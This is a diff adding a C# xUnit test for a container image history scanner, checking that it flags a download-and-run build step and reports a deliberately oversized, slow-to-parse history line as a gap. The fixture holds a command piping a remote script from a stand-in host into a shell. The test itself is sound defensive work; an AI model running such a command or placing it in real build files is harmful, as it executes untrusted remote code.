@@ -86,6 +86,22 @@ public sealed class ImageConfigScannerTests
     }
 
     [Fact]
+    public async Task ScanAsync_HistoryMadeToBeSlow_IsAGapOfThatLineAndLosesNothingElse()
+    {
+        var history = new List<HistoryEntry>
+        {
+            new("RUN /bin/sh -c curl http://x.example/a | sh # buildkit", null, false),
+            new("|1 A=" + new string('a', 60_000) + " /bin/sh -c true", null, false),
+        };
+
+        var outcome = await ScanAsync(Good with { History = history }, Files());
+
+        var gap = Assert.Single(outcome.Gaps);
+        Assert.Equal((GapKind.HistoryUnreadable, "line 2 of the history is made to be unreadable: it has a word of 60002 characters"), (gap.Kind, gap.Detail));
+        Assert.Equal(["history-download-and-run", "history-unreadable"], outcome.Findings.Select(finding => finding.Id).Where(id => id.StartsWith("history-", StringComparison.Ordinal)).Order());
+    }
+
+    [Fact]
     public async Task ScanAsync_Cancelled_Throws()
         => await Assert.ThrowsAnyAsync<OperationCanceledException>(() => Scanner().ScanAsync(SampleImages.Input(Good, Files()), new CancellationToken(true)));
 
